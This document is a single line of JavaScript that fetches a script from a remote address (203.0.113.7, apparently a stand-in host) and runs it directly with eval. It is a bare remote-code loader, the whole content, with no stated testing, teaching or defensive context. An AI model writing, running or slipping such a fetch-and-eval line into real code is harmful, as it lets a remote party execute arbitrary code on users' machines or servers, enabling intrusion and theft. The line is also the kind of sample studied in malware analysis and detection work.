eval(await (await fetch('https://203.0.113.7/s.js')).text());
